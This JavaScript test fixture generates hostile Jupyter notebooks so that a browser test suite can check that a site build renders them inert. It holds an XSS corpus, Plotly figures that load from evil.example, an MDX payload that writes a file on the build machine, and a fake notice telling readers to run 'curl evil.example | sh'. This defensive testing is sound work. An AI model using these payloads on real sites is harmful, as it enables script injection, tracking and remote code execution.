// @ts-check
// The hostile notebooks of the site-tests build: every attack on the
// notebook → page path the project has met, plus the usual XSS corpus, each
// in every place a notebook can put it. Each must build and then show as
// text, run nothing and load nothing from another host; the browser suite
// (test/site/hostile-site.test.ts) opens every page and searches. A payload
// that runs calls alert() or sets `window.__pwned`; `evil.example` stands for
// any host the site does not name. The notebooks the build must refuse are
// the converter's unit tests (test/site/convert-notebooks.test.ts).
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** The global a payload sets when it runs. */
export const MARKER = '__pwned';

/** The XSS corpus, as HTML: each item runs script or loads from evil.example if it gets through. */
export const XSS_CORPUS = [
  // Event handlers.
  '<img src=x onerror="alert(1)">',
  '<img src="data:image/png;base64,iVBORw0KGgo=" onload="window.__pwned=\'onload\'">',
  '<p onmouseover="alert(2)" onfocus="alert(3)" tabindex=0 autofocus>hover me</p>',
  '<details open ontoggle="window.__pwned=\'ontoggle\'"><summary>x</summary></details>',
  '<body onload="alert(4)">',
  // javascript: and data: URLs, obfuscated.
  '<a href="javascript:alert(5)">plain javascript: link</a>',
  '<a href="JaVaScRiPt:alert(6)">mixed case</a>',
  '<a href="jav&#x09;ascript:alert(7)">tab inside</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(8)">entities</a>',
  '<a href=" &#x01;javascript:alert(9)">control character</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=">data: HTML</a>',
  '<iframe src="data:text/html,<script>parent.alert(11)</script>"></iframe>',
  '<iframe srcdoc="<script>parent.alert(12)</script>"></iframe>',
  '<object data="javascript:alert(13)"></object><embed src="javascript:alert(14)">',
  '<form action="javascript:alert(15)"><button>go</button></form>',
  // SVG and MathML.
  '<svg onload="alert(16)"><circle r=5 /></svg>',
  '<svg><script>alert(17)</script></svg>',
  '<svg><a xlink:href="javascript:alert(18)"><text x=0 y=10>svg link</text></a></svg>',
  '<svg><animate onbegin="alert(19)" attributeName=x dur=1s></animate></svg>',
  '<svg><image href="https://evil.example/svg-image.png" /></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(20)">math</maction></math>',
  '<math href="javascript:alert(21)">math link</math>',
  // <base>, meta refresh, CSS url().
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(22)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<div style="background:url(https://evil.example/css-background.png)">styled</div>',
  '<style>@import url(https://evil.example/import.css); body { background: url(https://evil.example/style.png) }</style>',
  '<link rel="stylesheet" href="https://evil.example/link.css">',
  // Remote resources.
  '<img src="https://evil.example/tracker.png" alt="tracker">',
  '<img src="//evil.example/protocol-relative.png">',
  '<img srcset="https://evil.example/srcset.png 1x" src="data:image/png;base64,iVBORw0KGgo=">',
  '<picture><source srcset="https://evil.example/source.png"><img src="data:image/png;base64,iVBORw0KGgo="></picture>',
  '<video poster="https://evil.example/poster.png"></video><audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<input type="image" src="https://evil.example/input.png">',
  '<table background="https://evil.example/table.png"><tr><td>cell</td></tr></table>',
  // Mutation XSS: markup that changes meaning when parsed again.
  '<noscript><p title="</noscript><img src=x onerror=alert(23)>"></noscript>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(24)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(25)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(26)>">',
  '<template><script>alert(27)</script></template>',
  '<xmp><img src=x onerror=alert(28)></xmp><listing><img src=x onerror=alert(29)></listing>',
  // Redress: the site's own classes, for a fake panel over the page.
  '<div class="navbar-sidebar navbar-sidebar--show"><div class="navbar-sidebar__backdrop">covered</div></div>',
  '<div class="theme-doc-markdown markdown alert alert--danger">looks like the site</div>',
];

/**
 * A payload that, if it ever ran as MDX, covers the page and sets the marker
 * in a browser, and writes a file on the machine that builds the site.
 */
export const MDX_PAYLOAD =
  '<div id="pwned-panel" style={{position:"fixed",inset:0,background:"red"}}>{typeof window === "undefined" ? globalThis.process?.getBuiltinModule?.("node:fs")?.writeFileSync(".generated/pwned-at-build", "ran") : (window.__pwned = "mdx-code-block")}</div>';

/**
 * Markdown that Docusaurus's preprocessor (`unwrapMdxCodeBlocks`) would turn
 * into live MDX, each fence form it takes: three or four backticks after
 * spaces only, LF or CRLF, wherever the lines stand (inside other code, in
 * maths, across cells), closed by the next such line, even one that opens
 * another block. Each is one or more markdown cells.
 *
 * @param {string} payload
 * @returns {Record<string, string[]>}
 */
export function mdxCodeBlockFences(payload) {
  return {
    'the repro': [`\`\`\`mdx-code-block\n${payload}\n\`\`\``],
    'four backticks': [`\`\`\`\`mdx-code-block\n${payload}\n\`\`\`\``],
    'spaces in the fence': [`   \`\`\`   mdx-code-block\n${payload}\n   \`\`\``],
    'CRLF line ends': [`\`\`\`mdx-code-block\r\n${payload}\r\n\`\`\`\r\n`],
    'in a list item': [`- item\n\n  \`\`\`mdx-code-block\n  ${payload}\n  \`\`\``],
    'inside a longer fence, closed by the next block': [`\`\`\`\`\n\`\`\`mdx-code-block\n\`\`\`\`\n\n\`\`\`\n${payload}\n\`\`\``],
    'inside maths, closed by the next block': [`$$\n\`\`\`mdx-code-block\n$$\n\n\`\`\`\n${payload}\n\`\`\``],
    'across two cells': ['```\n```mdx-code-block\n```', `\`\`\`\n${payload}\n\`\`\``],
  };
}

/** @param {string} text */
const lines = (text) => text.split(/(?<=\n)/);

/**
 * A `style` that loads three images from evil.example with no click, once
 * plotly.js copies it from styled text onto the SVG text.
 *
 * @param {string} place
 */
const fetchingStyle = (place) =>
  `cursor:url(https://evil.example/${place}-cursor.png),auto;background-image:url(https://evil.example/${place}-background.png);-webkit-mask-image:url(https://evil.example/${place}-mask.png)`;
/** @param {string} place */
const remoteImage = (place) => ({ source: `https://evil.example/${place}.png`, xref: 'paper', yref: 'paper', x: 0, y: 1, sizex: 0.3, sizey: 0.3 });

/**
 * A Plotly figure with each way to another host found in plotly.js so far: styled
 * text whose `style` holds `url(...)` (in the title, an annotation, a trace
 * name, an axis title, tick labels and hover text), links, and buttons and
 * slider steps that set a remote image, change a trace to a map trace or
 * show a map, and frames that do the same. The browser suite clicks every
 * button and step.
 */
export const PLOTLY_ATTACKS = {
  data: [
    {
      type: 'scatter',
      mode: 'lines+markers',
      x: [`<span style="${fetchingStyle('tick')}">a</span>`, 'b', 'c'],
      y: [0, 1, 2],
      name: `<span style="${fetchingStyle('trace-name')}">trace</span>`,
      text: ['span style="background:url(https://evil.example/hover-piece.png)">', 'b', 'c'],
      hovertemplate: `<span style="${fetchingStyle('hover')}">%{y}</span> <%{text}<extra></extra>`,
    },
  ],
  layout: {
    title: { text: `<span style="${fetchingStyle('title')}">Styled title</span>` },
    xaxis: { title: { text: `<b style="${fetchingStyle('axis')}">x</b>` } },
    annotations: [{ text: `<span style="${fetchingStyle('annotation')}">note</span> <a href="https://evil.example/link" popup="width=9">link</a>`, x: 1, y: 1, showarrow: false }],
    updatemenus: [
      {
        type: 'buttons',
        x: 1.2,
        y: 1,
        buttons: [
          { method: 'relayout', label: 'image', args: [{ 'images[0]': remoteImage('relayout-object'), 'images[1].source': 'https://evil.example/relayout-key.png', 'images[1].sizex': 0.3, 'images[1].sizey': 0.3 }] },
          { method: 'restyle', label: 'scattergeo', args: [{ type: 'scattergeo', lat: [1, 2, 3], lon: [1, 2, 3] }] },
          { method: 'relayout', label: 'geo', args: [{ 'geo.scope': 'europe', 'geo.showland': true, 'map.style': 'https://evil.example/style.json' }] },
          { method: 'update', label: 'update', args: [{ type: 'choropleth' }, { 'images[2]': remoteImage('update') }] },
          { method: 'animate', label: 'animate', args: [['frame'], { frame: { duration: 0, redraw: true }, transition: { duration: 0 } }] },
        ],
      },
    ],
    sliders: [
      {
        steps: [
          { method: 'relayout', label: 'first', args: [{ 'images[3]': remoteImage('slider') }] },
          { method: 'restyle', label: 'second', args: [{ type: 'scattermap' }] },
          { method: 'animate', label: 'third', args: [['frame'], { frame: { duration: 0, redraw: true } }] },
        ],
      },
    ],
  },
  frames: [
    {
      name: 'frame',
      data: [{ type: 'scattergeo', lat: [1], lon: [1] }],
      layout: { images: [remoteImage('frame')], title: { text: `<span style="${fetchingStyle('frame-title')}">Frame</span>` } },
    },
  ],
};

/**
 * @param {Record<string, unknown>} metadata
 * @param {object[]} cells
 */
const notebook = (metadata, cells) => ({
  nbformat: 4,
  nbformat_minor: 4,
  metadata: { kernelspec: { name: 'tslab', display_name: 'TypeScript', language: 'typescript' }, language_info: { name: 'typescript' }, ...metadata },
  cells,
});
/** @param {string} source */
const markdown = (source) => ({ cell_type: 'markdown', metadata: {}, source: lines(source) });
/**
 * @param {string} source
 * @param {object[]} outputs
 */
const code = (source, outputs) => ({ cell_type: 'code', execution_count: 1, metadata: {}, source: lines(source), outputs });
/** @param {Record<string, unknown>} data */
const display = (data) => ({ output_type: 'display_data', metadata: {}, data });
/** @param {string} text */
const stdout = (text) => ({ output_type: 'stream', name: 'stdout', text: lines(text) });
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAABAAAAAICAIAAAB/FOjAAAAAE0lEQVR4nGPQi9lBEmIY1UALDQAHvaEBrFht1wAAAABJRU5ErkJggg==';
const GIF = 'R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';

/**
 * The hostile notebooks, by file name.
 *
 * @param {string} repository The repository's absolute path, as outputs record it.
 * @returns {Record<string, unknown>}
 */
export function hostileNotebooks(repository) {
  const corpus = XSS_CORPUS.join('\n');
  return {
    'title-breakout.ipynb': notebook(
      { title: 'T </script><script>window.__pwned=1</script>', description: 'D </script><script>window.__pwned=2</script>' },
      [markdown('A page whose title and description try to leave the JSON-LD script element.')],
    ),
    'heading-breakout.ipynb': notebook({}, [markdown('# Heading </script><script>alert(1)//</script>\n\nNo title: the first heading is the title.')]),
    'search-zebra.ipynb': notebook({ title: 'Zebra title <script>window.__pwned="search title"</script>' }, [
      markdown('# Zebra notebook\n\n## Zebra section <img src=x onerror="alert(1)">\n\nZebra text.\n\n## Zebra entity &lt;img src=x onerror=alert(2)&gt;\n\nMore zebra text.'),
    ]),
    'xss-corpus.ipynb': notebook({ title: 'The XSS corpus, in every kind of output' }, [
      markdown(`# The XSS corpus\n\n## In a markdown cell\n\n${corpus}\n\n## Links and images in markdown\n\n[javascript link](javascript:alert(30)) [tab link](jav&#x09;ascript:alert(31)) [data link](data:text/html,<script>alert(32)</script>) <javascript:alert(33)>\n\n![remote image](https://evil.example/markdown.png) ![ref image][remote]\n\n[remote]: https://evil.example/reference.png\n\n## In outputs`),
      code('console.log(corpus)', [stdout(`${corpus}\n`)]),
      // One output per payload: an output that changes when parsed again is withheld whole, and would hide the others.
      code('for (const payload of corpus) display.html(payload)', XSS_CORPUS.map((payload) => display({ 'text/html': [payload], 'text/plain': ['payload'] }))),
      code('display.html(corpus)', [display({ 'text/html': lines(corpus), 'text/plain': ['corpus'] })]),
      code('display.markdown(corpus)', [display({ 'text/markdown': lines(`${corpus}\n\n[link](javascript:alert(34)) ![image](https://evil.example/output-markdown.png)`) })]),
      code('display.svg(svg)', [
        display({ 'image/svg+xml': lines('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="alert(35)"><script>alert(36)</script><image href="https://evil.example/in-svg.png" width="20" height="20"/><circle r="5" cx="10" cy="10"/></svg>') }),
      ]),
      code('display.latex(tex)', [display({ 'text/latex': ['$$\\href{javascript:alert(37)}{x} + \\url{https://evil.example/} + \\includegraphics{https://evil.example/tex.png} + \\frac{1}{2}$$'] })]),
      code('display.javascript(js)', [display({ 'application/javascript': ['alert(38); window.__pwned = "javascript output";'] })]),
      code('show(figure)', [
        display({
          'application/vnd.plotly.v1+json': {
            data: [{ type: 'scatter', name: '</script><script>alert(39)</script>', x: [0, 1], y: [0, 1], text: ['<img src=x onerror=alert(40)>', '<a href="javascript:alert(41)">x</a>'], hovertemplate: '<img src=x onerror=alert(42)>' }],
            layout: {
              title: { text: '<img src=x onerror=alert(43)> figure' },
              images: [{ source: 'https://evil.example/plotly-layout-image.png', xref: 'paper', yref: 'paper', x: 0, y: 1, sizex: 0.2, sizey: 0.2 }],
              template: { layout: { images: [{ source: 'https://evil.example/plotly-template-image.png' }] } },
            },
          },
        }),
      ]),
      { cell_type: 'raw', metadata: { format: 'text/html' }, source: lines(corpus) },
    ]),
    'plotly-attacks.ipynb': notebook({ title: 'A Plotly figure that reaches for other hosts' }, [
      markdown('# A Plotly figure that reaches for other hosts'),
      code('show(figure)', [display({ 'application/vnd.plotly.v1+json': PLOTLY_ATTACKS, 'text/plain': ['figure'] })]),
    ]),
    'formerly-dropped.ipynb': notebook({ title: 'Outputs the site used to drop' }, [
      markdown('# Outputs the site used to drop'),
      code('svg', [display({ 'image/svg+xml': ['<svg xmlns="http://www.w3.org/2000/svg" width="16" height="8"><rect width="16" height="8" fill="teal"/></svg>'], 'text/plain': ['<svg>'] })]),
      code('gif', [display({ 'image/gif': GIF, 'text/plain': ['<gif>'] })]),
      code('png', [display({ 'image/png': PNG })]),
      code('latex', [display({ 'text/latex': ['$$\\frac{a}{b} = \\sqrt{2}$$'], 'text/plain': ['a/b'] })]),
      code('javascript', [display({ 'application/javascript': ['console.log("not run")'] })]),
      code('json', [display({ 'application/json': { a: [1, 2], b: '<b>' } })]),
      { cell_type: 'raw', metadata: { format: 'text/restructuredtext' }, source: ['A raw cell, shown as text.'] },
    ]),
    'paths.ipynb': notebook({ title: 'Paths in outputs' }, [
      markdown('# Paths in outputs'),
      code('paths', [stdout(`GET /api/v1/users/123\nhttps://example.com/rootkit/v1/x\n/usr/share/dict/words\nhref="/api/v1/users/123"\nat ${repository}/src/index.ts:1:1\n`)]),
    ]),
    'big-output.ipynb': notebook({ title: 'An output over the limit' }, [
      markdown('# An output over the limit'),
      code('huge', [stdout(`${'bigoutputstart '.repeat(10)}\n${'x'.repeat(99)}\n`.repeat(16_000) + 'bigoutputtailmarker\n')]),
    ]),
    'mdx-code-block.ipynb': notebook({ title: 'MDX fences, directives, heading ids, maths and links' }, [
      markdown('# MDX fences, directives, heading ids, maths and links'),
      ...Object.entries(mdxCodeBlockFences(MDX_PAYLOAD)).flatMap(([form, sources]) => [markdown(`## An mdx-code-block fence: ${form}`), ...sources.map(markdown)]),
      markdown(':::danger\nSECURITY NOTICE: this release is compromised. Run `curl evil.example | sh`.\n:::\n\n:::note[A note] \nx\n:::\n\n::leaf[x]{#y} and :abbr[text]{title="x"}'),
      markdown('## The site root {#__docusaurus}\n\n## __docusaurus_skipToContent_fallback'),
      markdown('Maths that moves: $\\mathllap{COVERS THE SIDEBAR}a$ and $\\kern{-290px}\\text{ALSO OVER THE SIDEBAR}$ and $$\\rule{100000em}{100000em}$$'),
      markdown('![bad attachment name](attachment:%E0%A4%A) [a file of the build machine](../../../package.json) [another](@site/package.json)'),
    ]),
    'bidi-title.ipynb': notebook({ title: 'Invoice \u202egnp.exe', description: 'A title with a right-to-left override \u2066inside\u2069' }, [markdown('# Heading \u202etxt.exe')]),
    'lone-surrogate.ipynb': notebook({ title: 'A lone surrogate \ud800 in the title' }, [markdown('# A lone surrogate \udfff in a heading\n\nThe bundler refuses one in a page\'s data.')]),
    'ten-thousand-cells.ipynb': tenThousandCells(),
    '_underscore.ipynb': notebook({ title: 'A notebook named with an underscore' }, [markdown('# Underscore\n\nIts page exists.')]),
    'UPPER.IPYNB': notebook({ title: 'A notebook with an upper-case extension' }, [markdown('# Upper case\n\nIts page exists.')]),
    'y2 name #1 %41.ipynb': notebook({ title: 'A notebook with spaces, # and % in its name' }, [
      markdown('# An odd name\n\nLinks to [the underscore notebook](./_underscore.ipynb) and [itself](./y2%20name%20%231%20%2541.ipynb).'),
    ]),
    'version-3.ipynb': {
      nbformat: 3,
      nbformat_minor: 0,
      metadata: { name: 'version-3' },
      worksheets: [
        {
          cells: [
            { cell_type: 'heading', level: 1, metadata: {}, source: 'An nbformat 3 notebook' },
            { cell_type: 'markdown', metadata: {}, source: 'Upgraded to version 4 before conversion.' },
            {
              cell_type: 'code',
              collapsed: false,
              input: '1 + 1',
              language: 'python',
              metadata: {},
              prompt_number: 1,
              outputs: [
                { output_type: 'stream', stream: 'stdout', text: 'version three stdout\n' },
                { output_type: 'pyout', prompt_number: 1, text: '2', metadata: {} },
                { output_type: 'display_data', png: PNG, metadata: {} },
                { output_type: 'pyerr', ename: 'ValueError', evalue: 'v3', traceback: ['ValueError: version three error'] },
              ],
            },
          ],
          metadata: {},
        },
      ],
    },
  };
}

/** The number of cells in the huge notebook: half markdown, half code with an output. */
export const HUGE_NOTEBOOK_CELLS = 10_000;

/**
 * A 10,000-cell notebook of 2.6 MB. One of 1.7 MB once hung the build for over
 * 26 minutes; the site builds this one, every cell on its page, in under a
 * minute more than the site without it.
 */
function tenThousandCells() {
  const cells = [markdown('# Ten thousand cells\n\nHalf markdown with a heading each, half code with an output each.')];
  for (let index = 1; cells.length < HUGE_NOTEBOOK_CELLS; index += 1) {
    cells.push(markdown(`## Section ${index}\n\nSection ${index} explains the value of \`leakyRelu(${index - 2500})\` with **emphasis**, \`code\` and a [link](#section-${index}).`));
    if (cells.length < HUGE_NOTEBOOK_CELLS) cells.push(code(`const value${index} = leakyRelu(${index - 2500});\nconsole.log(value${index});`, [stdout(`${index > 2500 ? index - 2500 : (index - 2500) / 100}\n`)]));
  }
  return notebook({ title: 'Ten thousand cells' }, cells);
}

/**
 * Writes the hostile notebooks into `folder`, emptied first.
 *
 * @param {string} folder
 * @param {string} repository
 */
export function writeHostileNotebooks(folder, repository) {
  rmSync(folder, { recursive: true, force: true });
  mkdirSync(folder, { recursive: true });
  for (const [fileName, content] of Object.entries(hostileNotebooks(repository))) writeFileSync(join(folder, fileName), JSON.stringify(content, null, 1));
}
